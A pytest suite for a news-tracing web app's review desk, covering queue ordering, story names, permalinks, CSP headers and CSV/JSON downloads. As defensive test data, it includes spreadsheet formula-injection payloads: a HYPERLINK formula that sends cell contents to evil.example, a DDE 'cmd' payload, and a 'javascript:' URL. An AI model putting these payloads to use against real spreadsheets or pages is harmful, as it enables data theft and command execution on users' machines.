"""The served UI as a desk: the review queue and its order, stories named by their origin's title
(or first sentence), sentence numbers from 1 everywhere, permalinks per story, pair and finding,
the JSON/CSV downloads (CSV cells safe from formula injection), and a store written by another
process noticed."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from html import unescape
from pathlib import Path
from urllib.parse import quote

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")
pytest.importorskip("jinja2")

from fastapi.testclient import TestClient  # noqa: E402 - after importorskip

from storytrace.web import desk  # noqa: E402 - after importorskip
from storytrace.web.app import create_app  # noqa: E402 - after importorskip
from storytrace.web.downloads import csv_cell, csv_text  # noqa: E402 - after importorskip
from storytrace.web.pages import ENV, article_page, finding_page  # noqa: E402 - after importorskip
from storytrace.web.search import match_sentence  # noqa: E402 - after importorskip
from storytrace.web.state import build_snapshot  # noqa: E402 - after importorskip
from tests.support.web_corpus import PAYLOAD_ID, RAW_PAYLOADS, corpus  # noqa: E402 - after importorskip

LOCAL = "http://127.0.0.1"
ROOT = Path(__file__).resolve().parents[2]

# A report whose every field would be a formula in a spreadsheet, and one without a title.
FORMULA = {
    "id": "formula",
    "published": "2025-02-01",
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "outlet": "@SUM(A1:A9)",
    "text": "-2+3 is what the committee wrote on the whiteboard in the town hall. +1 more vote was needed for the motion.",
}
UNTITLED = {
    "id": "untitled",
    "published": "2025-01-15",
    "text": "Heavy rain flooded the Ribeira fish market on Monday morning. Traders said they lost most of their stock.",
}


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    app = create_app(tmp_path_factory.mktemp("desk") / "store.db", trace_on_start=False, trace_worker="thread")
    with TestClient(app, base_url=LOCAL) as c:
        r = c.post("/api/reports", json=corpus() + [FORMULA, UNTITLED])
        assert r.status_code == 200, r.text
        yield c


def _story_of(client, article_id: str) -> str:
    return client.get("/api/articles/" + quote(article_id, safe="")).json()["story"]


def _csv(response) -> list[dict]:
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(response.text)))


# ------------------------------------------------------------------ a synthetic trace
def _sentences(text: str) -> list[dict]:
    """Sentences ending in a full stop, with their offsets into the text."""
    found = [(m.start(), m.end()) for m in re.finditer(r"[^ .][^.]*\.", text)]
    return [{"index": k, "start": a, "end": b, "text": text[a:b]} for k, (a, b) in enumerate(found)]


def _article(aid: str, published: str | None, text: str, title: str | None = None, outlet: str | None = None) -> dict:
    return {"id": aid, "published": published, "title": title, "outlet": outlet, "text": text, "sentences": _sentences(text)}


def _edge(source: str, derived: str, altered: bool, score: float) -> dict:
    return {"source": source, "derived": derived, "verdict": {"facts_altered": altered, "score": score}}


SRC_TEXT = "A crane fell at the port on Friday. Forty workers left the site. The mayor spoke."
ARTICLES = [
    _article("o", "2025-03-01", SRC_TEXT, title="Crane falls at the port", outlet="Courier"),
    _article("d-old", "2025-03-02", "A crane fell at the port. Ninety workers left the site.", outlet="Daily"),
    _article("d-new", "2025-03-05", "A crane fell at the port. Sixty workers left.", outlet="Ledger"),
    _article("d-top", "2025-03-03", "Cranes fell. Nobody left.", outlet="Wire"),
    _article("d-kept", "2025-03-04", "A crane fell at the port on Friday.", outlet="Post"),
    _article("d-tie", "2025-03-05", "A crane fell. Sixty workers left at dawn.", outlet="Ledger"),
    _article("untitled-origin", None, "Floods closed the market on Monday. Stalls were empty."),
    _article("later", "2025-04-02", "Floods closed the market. Stalls were empty for days."),
]
STORIES = [
    {
        "id": "s-crane",
        "origin": "o",
        "articles": ["o", "d-old", "d-top", "d-kept", "d-new", "d-tie"],
        "edges": [
            _edge("o", "d-old", True, 0.5),
            _edge("o", "d-new", True, 0.5),
            _edge("o", "d-top", True, 0.9),
            _edge("o", "d-kept", False, 0.1),
            _edge("o", "d-tie", True, 0.5),
        ],
        "findings": [
            {
                "type": "number_changed",
                "derived": "d-new",
                "source": "o",
                "derived_sentence": 1,
                "source_sentence": 1,
                "derived_span": [26, 31],
                "source_span": [36, 41],
                "explanation": "Sixty where the source says Forty",
            },
            {
                "type": "detail_dropped",
                "derived": "d-new",
                "source": "o",
                "derived_sentence": None,
                "source_sentence": 2,
                "explanation": "The mayor's remark is gone",
            },
            {
                "type": "unsupported_claim",
                "derived": "d-top",
                "source": "o",
                "derived_sentence": 1,
                "source_sentence": None,
                "explanation": "Nobody left: the source does not say so",
            },
        ],
    },
    {"id": "s-flood", "origin": None, "articles": ["later", "untitled-origin"], "edges": []},
]


@pytest.fixture()
def snap():
    return build_snapshot({"schema": "x", "articles": ARTICLES, "stories": STORIES}, version=2, complete=True)


def test_queue_orders_by_verdict_score_then_newest(snap):
    rows = desk.queue_rows(snap)
    # d-kept kept the facts: not in the queue; 0.5 ties go newest first, then by id
    assert [r["derived"] for r in rows] == ["d-top", "d-new", "d-tie", "d-old"]
    assert [r["score"] for r in rows] == [0.9, 0.5, 0.5, 0.5]
    new = rows[1]
    assert new["findings"] == 2 and [t["type"] for t in new["types"]] == ["number_changed", "detail_dropped"]
    assert new["href"] == "/stories/s-crane/pair?derived=d-new&source=o"
    assert new["first_finding_href"] == "/stories/s-crane/findings/1"
    assert new["derived_name"] == "A crane fell at the port."  # no title: its first sentence
    assert new["story_name"] == "Crane falls at the port"


def test_stories_are_named_by_origin_title_or_first_sentence(snap):
    rows = {r["id"]: r for r in desk.story_rows(snap)}
    assert rows["s-crane"]["name"] == "Crane falls at the port"
    assert rows["s-crane"]["outlets"] == ["Courier", "Daily", "Wire", "Post", "Ledger"]  # chronological, once each
    assert (rows["s-crane"]["first_published"], rows["s-crane"]["last_published"]) == ("2025-03-01", "2025-03-05")
    assert rows["s-crane"]["altered"] == 4 and rows["s-crane"]["size"] == 6
    # no origin: the earliest dated report names it, by its first sentence
    assert rows["s-flood"]["name"] == "Floods closed the market."
    assert desk.report_name({"title": "  ", "sentences": []}, "the-id") == "the-id"
    assert desk.report_name({"title": "x" * 300}, "i").endswith("…") and len(desk.report_name({"title": "x" * 300}, "i")) == 140


def test_finding_without_a_derived_sentence_says_so_in_words(snap):
    dropped = desk.finding_view(snap, "s-crane", 2)
    assert dropped["derived_evidence"] is None
    assert dropped["derived_missing"] == "No sentence of the derived report: this is what it left out."
    assert dropped["source_evidence"]["number"] == 3 and dropped["source_evidence"]["text"] == "The mayor spoke."
    page = finding_page(dropped, None)
    assert "No sentence of the derived report: this is what it left out." in page
    assert 'href="/articles/o#s3">source sentence 3</a>' in page
    unsourced = desk.finding_view(snap, "s-crane", 3)
    assert unsourced["source_missing"] == "No sentence of the source says this: the derived report adds it."
    assert desk.finding_view(snap, "s-crane", 0) is None and desk.finding_view(snap, "s-crane", 4) is None


def test_evidence_marks_the_span_inside_its_sentence(snap):
    ev = desk.finding_view(snap, "s-crane", 1)["derived_evidence"]
    assert ev["number"] == 2 and ev["href"] == "/articles/d-new#s2"
    assert (ev["before"], ev["marked"], ev["after"]) == ("", "Sixty", " workers left.")
    page = finding_page(desk.finding_view(snap, "s-crane", 1), "/stories/s-crane#f0-0")
    assert "<mark>Sixty</mark> workers left." in page and 'href="/stories/s-crane#f0-0"' in page


def test_article_page_numbers_text_and_findings_from_one(snap):
    a = snap.articles["d-new"]
    detail = {**a, "url": None, "story": "s-crane", "role": "derived", "sources": [], "derivatives": [], "findings": []}
    page = article_page(detail, snap)
    items = re.findall(r'<li id="s(\d+)" value="(\d+)"[^>]*>([^<]*)</li>', page)
    assert [(int(i), int(v), t) for i, v, t in items] == [(1, 1, "A crane fell at the port."), (2, 2, "Sixty workers left.")]
    # finding 1 points at 0-based sentence 1: shown and linked as sentence 2, the text's item 2
    assert 'href="/articles/d-new#s2">derived sentence 2</a>' in page
    assert "No sentence of the derived report: this is what it left out." in page  # finding 2
    assert '<li id="s2" value="2" class="flagged">' in page


def test_pairs_and_finding_anchors_read_from_the_rendered_page():
    page = (
        '<section class="pair" id="p0-0" data-derived="a&amp;b" data-source="o">'
        '<section class="pair" id="p0-1" data-derived="lone" data-source="">'
        '<li class="t-x" data-finding-id="f0-0"></li><li data-finding-id="f0-7"></li>'
    )
    assert desk.page_pairs(page) == [
        {"id": "p0-0", "derived": "a&b", "source": "o"},
        {"id": "p0-1", "derived": "lone", "source": None},
    ]
    assert desk.pair_anchor(page, "a&b", "o") == "p0-0" and desk.pair_anchor(page, "lone", None) == "p0-1"
    assert desk.pair_anchor(page, "a&b", None) is None
    assert desk.finding_anchor(page, 8) == "f0-7" and desk.finding_anchor(page, 2) is None


# ------------------------------------------------------------------ CSV escaping, search sentence
@pytest.mark.parametrize("value", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "\r=x"])
def test_csv_cells_that_would_be_formulas_are_quoted(value):
    assert csv_cell(value) == "'" + value
    [row] = list(csv.reader(io.StringIO(csv_text([{"c": value}], ["c"]))))[1:]
    assert row == ["'" + value]


def test_csv_cells_that_are_not_formulas_stay_as_they_are():
    assert [csv_cell(v) for v in ["a=b", "", None, -3, 0.5, True, ["x", "=y"]]] == ["a=b", "", "", "-3", "0.5", "true", "x; '=y"]
    assert csv_cell({"k": 1}) == '{"k": 1}'


def test_match_sentence_finds_the_sentence_of_the_first_match():
    text = "First one here. The crane fell down. Last."
    spans = json.dumps([[0, 15, 0], [16, 36, 1], [37, 42, 2]])
    snippet = "…The crane fell down. Last."
    assert match_sentence(text, spans, snippet, [(5, 10)]) == 1
    assert match_sentence(text, spans, "First one here.…", [(0, 5)]) == 0
    assert match_sentence(text, spans, "First one", []) is None  # matched in the title only
    assert match_sentence(text, spans, "not in the text", [(0, 3)]) is None


def test_templates_escape_by_default():
    assert ENV.autoescape is True
    assert ENV.from_string("{{ x }}").render(x="<b>") == "&lt;b&gt;"


# ------------------------------------------------------------------ served
def test_queue_page_and_api_agree_and_are_ordered(client):
    api = client.get("/api/queue").json()
    items = api["items"]
    assert api["total"] == len(items) >= 2
    keys = [(-i["score"], i["derived_published"] or "") for i in items]
    assert [k[0] for k in keys] == sorted(k[0] for k in keys)
    # every altered edge of the trace, and only those
    sid = _story_of(client, "origin")
    edges = client.get(f"/api/stories/{sid}").json()["stories"][0]["edges"]
    altered = {(e["derived"], e["source"]) for e in edges if e["verdict"]["facts_altered"]}
    assert {(i["derived"], i["source"]) for i in items} == altered
    for path in ("/", "/queue"):
        page = client.get(path)
        assert page.status_code == 200 and "Review queue" in page.text
        rows = re.findall(r'<tr class="queue-row" data-derived="([^"]*)"', page.text)
        assert [unescape(d) for d in rows] == [i["derived"] for i in items]
    only = client.get("/api/queue", params={"story": _story_of(client, "unrelated")}).json()
    assert only["items"] == []


def test_story_list_names_stories_by_title_or_first_sentence(client):
    page = client.get("/stories").text
    names = [unescape(n) for n in re.findall(r'<a class="story-link" href="/stories/[^"]+">([^<]*)</a>', page)]
    stories = client.get("/api/stories").json()["stories"]
    assert len(names) == len(stories)
    assert "Crane collapse halts work at Valmare container port" in names
    assert "Heavy rain flooded the Ribeira fish market on Monday morning." in names  # no title: first sentence
    assert not any(re.fullmatch(r"story-[0-9a-f]+|\d+_[0-9a-f]+", n) for n in names)
    crane = page[page.index("Crane collapse halts work") :]
    row = crane[: crane.index("</tr>")]
    assert "Valmare Courier" in row and "2025-03-10 – 2025-03-20" in row


def test_article_page_numbers_findings_like_its_text(client):
    detail = client.get("/api/articles/rewrite").json()
    page = client.get("/articles/rewrite").text
    texts = {int(n): unescape(t) for n, t in re.findall(r'<li id="s(\d+)" value="\1"[^>]*>([^<]*)</li>', page)}
    assert texts[1] == detail["sentences"][0]["text"] and len(texts) == len(detail["sentences"])
    assert detail["findings"]
    for f in detail["findings"]:
        k = f["derived_sentence"]
        if k is None:
            continue
        assert f'href="/articles/rewrite#s{k + 1}">derived sentence {k + 1}</a>' in page
        assert texts[k + 1] == detail["sentences"][k]["text"]


def test_permalinks_resolve(client):
    sid = _story_of(client, "rewrite")
    assert client.get(f"/stories/{sid}").status_code == 200
    for item in client.get("/api/queue").json()["items"]:
        r = client.get(item["href"], follow_redirects=False)
        assert r.status_code == 303
        path, _, anchor = r.headers["location"].partition("#")
        assert path == f"/stories/{item['story']}" and anchor
        story = client.get(path).text
        tag = re.search(rf'<section class="pair" id="{re.escape(anchor)}"[^>]*>', story).group(0)
        assert unescape(re.search(r'data-derived="([^"]*)"', tag).group(1)) == item["derived"]
        assert unescape(re.search(r'data-source="([^"]*)"', tag).group(1)) == item["source"]
    findings = client.get(f"/api/stories/{sid}").json()["stories"][0]["findings"]
    for n, f in enumerate(findings, 1):
        page = client.get(f"/stories/{sid}/findings/{n}")
        assert page.status_code == 200
        assert unescape(f["explanation"]) in unescape(page.text)
        assert f"/stories/{sid}#f0-{n - 1}" in page.text  # opens the story page with it highlighted
    assert client.get(f"/stories/{sid}/findings/{len(findings) + 1}").status_code == 404
    assert client.get(f"/stories/{sid}/findings/0").status_code == 404
    assert client.get(f"/stories/{sid}/pair", params={"derived": "origin", "source": "rewrite"}).status_code == 404
    assert client.get("/stories/story-nope/pair", params={"derived": "x"}).status_code == 404


def test_search_results_open_at_the_matching_sentence(client):
    page = client.get("/search", params={"q": "evacuation"}).text
    links = re.findall(r'<a class="hit-link" href="(/articles/[^"#]+)#s(\d+)">', page)
    assert links
    for href, n in links:
        article = client.get(unescape(href)).text
        sentence = re.search(rf'<li id="s{n}" value="{n}"[^>]*>([^<]*)</li>', article).group(1)
        assert "evacuat" in sentence.lower()
    hits = client.get("/api/search", params={"q": "evacuation"}).json()["hits"]
    assert all(isinstance(h["sentence"], int) for h in hits)


def test_downloads_parse(client):
    sid = _story_of(client, "rewrite")
    queue = client.get("/api/queue").json()["items"]
    assert json.loads(client.get("/?format=json").content) == queue
    assert [r["derived"] for r in _csv(client.get("/queue?format=csv"))] == [i["derived"] for i in queue]
    stories = _csv(client.get("/stories?format=csv"))
    assert {r["id"] for r in stories} == {s["id"] for s in client.get("/api/stories").json()["stories"]}
    assert json.loads(client.get(f"/stories/{sid}?format=json").content)["stories"][0]["id"] == sid
    findings = client.get(f"/api/stories/{sid}").json()["stories"][0]["findings"]
    rows = _csv(client.get(f"/stories/{sid}?format=csv"))
    assert [r["type"] for r in rows] == [f["type"] for f in findings]
    for r, f in zip(rows, findings, strict=True):  # numbered from 1, as on the pages
        assert r["derived_sentence"] == ("" if f["derived_sentence"] is None else str(f["derived_sentence"] + 1))
    pair = json.loads(client.get(queue[0]["href"] + "&format=json").content)
    assert pair["derived"] == queue[0]["derived"] and len(pair["findings"]) == queue[0]["findings"]
    assert len(_csv(client.get(queue[0]["href"] + "&format=csv"))) == queue[0]["findings"]
    one = json.loads(client.get(f"/stories/{sid}/findings/1?format=json").content)
    assert one["finding"] == findings[0] and one["number"] == 1
    assert _csv(client.get(f"/stories/{sid}/findings/1?format=csv"))[0]["explanation"] == findings[0]["explanation"]
    sentences = _csv(client.get("/articles/rewrite?format=csv"))
    assert (
        sentences[0]["sentence"] == "1"
        and sentences[0]["text"] == client.get("/api/articles/rewrite").json()["sentences"][0]["text"]
    )
    hits = _csv(client.get("/search", params={"q": "evacuation", "format": "csv"}))
    assert all(re.fullmatch(r"/articles/.+#s\d+", h["href"]) for h in hits)
    assert json.loads(client.get("/search", params={"q": "evacuation", "format": "json"}).content)["total"] == len(hits)
    assert client.get("/stories?format=xml").status_code == 422
    # each page links its own downloads
    for path in ("/", "/stories", f"/stories/{sid}", f"/stories/{sid}/findings/1", "/articles/rewrite"):
        page = client.get(path).text
        assert 'format=json">JSON</a>' in page and 'format=csv">CSV</a>' in page


def test_downloads_escape_formulas(client):
    stories = {r["id"]: r for r in _csv(client.get("/stories?format=csv"))}
    row = stories[_story_of(client, "formula")]
    assert row["name"] == "'" + FORMULA["title"]
    assert row["outlets"] == "'" + FORMULA["outlet"]
    texts = [r["text"] for r in _csv(client.get("/articles/formula?format=csv"))]
    assert texts[0].startswith("'-2+3") and texts[1].startswith("'+1 more")
    # the JSON keeps the values as they are
    assert json.loads(client.get("/articles/formula?format=json").content)["title"] == FORMULA["title"]


def test_desk_pages_escape_payloads(client):
    sid = _story_of(client, PAYLOAD_ID)
    n = next(
        k
        for k, f in enumerate(client.get(f"/api/stories/{sid}").json()["stories"][0]["findings"], 1)
        if f["derived"] == PAYLOAD_ID
    )
    for path in ("/", "/queue", "/stories", f"/stories/{sid}/findings/{n}", "/articles/" + quote(PAYLOAD_ID, safe="")):
        r = client.get(path)
        assert r.status_code == 200
        for raw in RAW_PAYLOADS:
            assert raw not in r.text, (path, raw)
        assert r.headers["content-security-policy"].startswith("default-src 'none'; script-src 'self';")
    pair = client.get(f"/stories/{sid}/pair", params={"derived": PAYLOAD_ID, "source": "origin"}, follow_redirects=False)
    assert pair.status_code == 303 and re.fullmatch(rf"/stories/{sid}#p\d+-\d+", pair.headers["location"])


def test_story_page_carries_the_desk_bar_under_its_policy(client):
    sid = _story_of(client, "origin")
    r = client.get(f"/stories/{sid}")
    csp = r.headers["content-security-policy"]
    assert re.search(r"script-src 'self' 'sha256-[^']+'", csp) and re.search(r"style-src 'self' 'sha256-[^']+'", csp)
    assert "unsafe-inline" not in csp and "connect-src 'self'" in csp
    assert '<nav class="desk-nav"' in r.text and 'id="desk-live"' in r.text and 'src="/static/desk.js"' in r.text
    assert "<title>Crane collapse halts work at Valmare container port" in r.text
    assert client.get("/static/desk.js").headers["content-type"].startswith("text/javascript")
    assert client.get("/static/desk.css").status_code == 200


# ------------------------------------------------------------------ another process writes the store
def test_rows_added_by_another_process_are_noticed_and_traced(tmp_path):
    db = tmp_path / "shared.db"
    app = create_app(db, trace_on_start=False, trace_worker="thread")
    with TestClient(app, base_url=LOCAL) as c:
        assert c.post("/api/reports", json=corpus()[:2]).status_code == 200
        before = c.get("/api/status").json()
        assert before["tracing"] is False and before["articles"] == before["traced_articles"] == 2
        # another process (as `storytrace watch` would) stores and traces a report into the same file
        feed = tmp_path / "new.jsonl"
        feed.write_text(json.dumps(corpus()[2]) + "\n", encoding="utf-8")
        code = "from storytrace.cli import main; main()"
        env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
        done = subprocess.run(
            [sys.executable, "-c", code, "trace", str(feed), "--db", str(db), "-q"], env=env, capture_output=True, timeout=300
        )
        assert done.returncode == 0, done.stderr.decode()
        noticed = c.get("/api/status").json()  # the pages' live script polls this
        assert noticed["articles"] == 3 and noticed["traced_articles"] == 2
        deadline = time.monotonic() + 120
        while True:
            status = c.get("/api/status").json()
            if status["trace_version"] > before["trace_version"] and not status["tracing"]:
                break
            assert time.monotonic() < deadline, status
            time.sleep(0.2)
        assert status["traced_articles"] == 3
        assert c.get("/api/articles/" + quote(corpus()[2]["id"], safe="")).json()["story"] is not None
        # nothing new since: asking again starts no trace
        c.get("/api/status")
        time.sleep(0.3)
        again = c.get("/api/status").json()
        assert again["tracing"] is False and again["trace_version"] == status["trace_version"]


def test_story_fallback_and_untraced_report_pages_render(snap):
    from storytrace.web.pages import story_fallback

    page = story_fallback(snap, "s-crane")
    assert "<h1>Crane falls at the port</h1>" in page
    assert 'href="/stories/s-crane/findings/2">finding 2</a>' in page
    assert "No sentence of the derived report: this is what it left out." in page
    lone = {**ARTICLES[0], "id": "new", "url": "javascript:alert(1)", "story": None, "role": None}
    page = article_page({**lone, "sources": [], "derivatives": [], "findings": []}, snap)
    assert "Not traced yet." in page and 'href="javascript:' not in page
